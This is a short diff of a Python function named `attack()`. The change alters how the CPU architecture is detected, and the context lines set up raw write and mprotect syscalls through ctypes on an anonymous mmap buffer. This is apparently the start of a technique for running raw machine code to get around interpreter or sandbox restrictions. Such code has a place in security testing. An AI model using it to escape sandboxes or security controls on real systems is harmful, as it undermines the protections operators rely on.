@@ -8,7 +8,7 @@ libc = ctypes.CDLL(None, use_errno=True)
 
 
 def attack():
-    machine = sys.modules["platform"].machine()
+    machine = sys.implementation._multiarch.split("-")[0]
     write, mprotect = {"x86_64": (1, 10), "aarch64": (64, 226)}[machine]
     memory = sys.modules["mmap"].mmap(-1, 4096, flags=0x22)
     address = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
